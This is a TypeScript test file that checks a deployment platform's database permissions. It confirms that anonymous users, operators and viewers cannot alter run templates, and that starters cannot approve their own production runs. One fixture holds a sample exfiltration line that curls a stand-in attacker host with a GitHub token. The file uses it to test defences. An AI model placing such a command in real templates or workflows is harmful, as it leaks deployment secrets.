/**
 * Attacks the first schema let through and the team model must refuse: any signed-in (even
 * anonymous) user writing templates the executor then runs with the deployment's secrets, and
 * anyone but a distinct reviewer approving a production run.
 */
import { beforeEach, describe, expect, it } from 'vitest'
import { engines, type TestDatabase } from '../support/databases.ts'
import { attempt, createUser, perform, userClaims } from '../support/actors.ts'
import { freshTeamEachTest, parkAtGate, saveTemplate, sha256Hex, startRun, templateYaml, type Team } from '../support/teams.ts'
import { ENVIRONMENT_GATE_STEP } from '../../supabase/functions/_shared/vocabulary/index.ts'

const poison = templateYaml('Deploy', 'policy: {}\n# exfiltrate: curl https://evil.example/?t=${{ secrets.GITHUB_TOKEN }}\n')

describe.each(engines)('attacks on the team model on %s', (engine) => {
  let test: TestDatabase
  let team: Team
  const genuine = templateYaml('Deploy')

  // One database per file; each test gets its own team in it.
  freshTeamEachTest(engine, (fresh) => ({ test, team } = fresh))
  beforeEach(async () => {
    await saveTemplate(team, 'admin', team.workspace, 'deploy', genuine)
  })

  const templateTexts = async () =>
    (
      await test.db.query<{ template_yaml: string }>(
        "select template_yaml from ops.run_templates where workspace_id = $1 and slug = 'deploy'",
        [team.workspace],
      )
    ).rows

  it('refuses an anonymous user who inserts a template', async () => {
    const guest = await createUser(test.db)
    const claims = { ...userClaims(guest), is_anonymous: true }
    const plain = await attempt(
      test.db,
      claims,
      "insert into ops.run_templates (slug, title, kind, template_yaml) values ('deploy-web-2', 'Deploy web', 'deploy', $1) returning id",
      [poison],
    )
    expect(plain.ok ? 'inserted' : plain.code).toBe('42501')
    const intoW = await attempt(
      test.db,
      claims,
      "insert into ops.run_templates (workspace_id, slug, title, kind, template_yaml) values ($1, 'evil', 'Evil', 'custom', $2) returning id",
      [team.workspace, poison],
    )
    expect(intoW.ok ? 'inserted' : intoW.code).toBe('42501')
    const saved = await attempt(test.db, claims, "select ops.save_template($1, 'evil', $2, null, 'Evil')", [team.workspace, poison])
    expect(saved.ok ? 'saved' : saved.code).toBe('42501')
    expect((await test.db.query('select 1 from ops.template_revisions where template_yaml = $1', [poison])).rows).toEqual([])
  })

  it('refuses an operator who poisons a template, and the next run still pins the genuine text', async () => {
    const op = team.claims('operator')
    const update = await attempt(test.db, op, "update ops.run_templates set template_yaml = $1 where slug = 'deploy' returning id", [
      poison,
    ])
    expect(update.ok ? `${update.rows.length} rows` : update.code).toMatch(/^(42501|0 rows)$/)
    const save = await attempt(test.db, op, "select ops.save_template($1, 'deploy', $2, 1, 'Deploy')", [team.workspace, poison])
    expect(save.ok ? 'saved' : save.code).toBe('42501')
    const revision = await attempt(
      test.db,
      op,
      `insert into ops.template_revisions (template_id, workspace_id, slug, revision, title, description, kind, template_yaml, hash, saved_by)
       select id, workspace_id, slug, 2, title, description, kind, $1, $2, $3 from ops.run_templates where slug = 'deploy' returning id`,
      [poison, sha256Hex(poison), team.users.operator],
    )
    expect(revision.ok ? `${revision.rows.length} rows` : revision.code).toMatch(/^(42501|0 rows)$/)
    expect(await templateTexts()).toEqual([{ template_yaml: genuine }])

    const run = await perform(
      test.db,
      op,
      "insert into ops.runs (workspace_id, template_slug, title) values ($1, 'deploy', 'Deploy') returning template_hash",
      [team.workspace],
    )
    expect(run).toEqual({ ok: true, rows: [{ template_hash: sha256Hex(genuine) }] })
  })

  it('refuses the starter who approves their own run on a protected environment', async () => {
    const run = await startRun(test.db, team.workspace, team.users.approver, { env: 'production' })
    await parkAtGate(test.db, run)
    const result = await attempt(test.db, team.claims('approver'), 'select ops.decide_approval($1, true)', [run])
    expect(result.ok ? 'approved their own run' : result.code).toBe('42501')
    const state = await test.db.query('select status, step_results -> $2 -> $3 as approvals from ops.runs where id = $1', [
      run,
      ENVIRONMENT_GATE_STEP,
      'approvals',
    ])
    expect(state.rows).toEqual([{ status: 'waiting_approval', approvals: [] }])
  })

  it('refuses a viewer who approves', async () => {
    const run = await startRun(test.db, team.workspace, team.users.operator, { env: 'production' })
    await parkAtGate(test.db, run)
    const result = await attempt(test.db, team.claims('viewer'), 'select ops.decide_approval($1, true)', [run])
    expect(result.ok ? 'a viewer approved' : result.code).toBe('42501')
    expect((await test.db.query('select status from ops.runs where id = $1', [run])).rows).toEqual([{ status: 'waiting_approval' }])
  })
})
